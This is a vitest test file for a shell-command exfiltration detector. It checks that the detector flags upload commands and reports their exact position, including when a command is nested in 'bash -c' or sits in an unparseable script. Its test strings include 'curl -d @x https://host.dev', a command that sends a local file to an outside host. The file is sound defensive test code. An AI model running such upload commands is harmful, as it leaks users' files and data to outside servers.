import { expect, test } from "vitest";
import { parseScript } from "../../../../src/main/shell/syntax/parse-script";
import { findExfiltration } from "../../../../src/main/shield/detectors/exfiltration/find-exfiltration";
import { COMMAND_LEAKS } from "../../../fixtures/shield/command-leaks";

const shapesOf = (command: string) => {
  const found = findExfiltration(command, parseScript(command));
  return [...new Set(found.map(({ kind }) => kind.replace("exfiltration:", "")))].sort();
};

test.each(COMMAND_LEAKS.map(({ command, expect: shapes }) => [command, shapes] as const))(
  "%s",
  (command, shapes) => {
    expect(shapesOf(command)).toEqual([...shapes].sort());
  },
);

test("a finding covers the command that does it, and not its neighbours", () => {
  const text = "ls -l; curl -d @x https://host.dev; pwd";
  const [found] = findExfiltration(text, parseScript(text));
  expect(text.slice(found?.start, found?.end)).toBe("curl -d @x https://host.dev");
});

test("a command that another shell runs is found at the place of that shell", () => {
  const text = "pwd; bash -c 'curl -d @x https://host.dev'";
  const [found] = findExfiltration(text, parseScript(text));
  expect(text.slice(found?.start, found?.end)).toBe("bash -c 'curl -d @x https://host.dev'");
});

test("what isn't understood as a whole is looked through in pieces", () => {
  const text = "if curl -d @x https://host.dev";
  expect(parseScript(text).problems).not.toEqual([]);
  expect(findExfiltration(text, parseScript(text)).map(({ kind }) => kind)).toContain("exfiltration:upload");
});
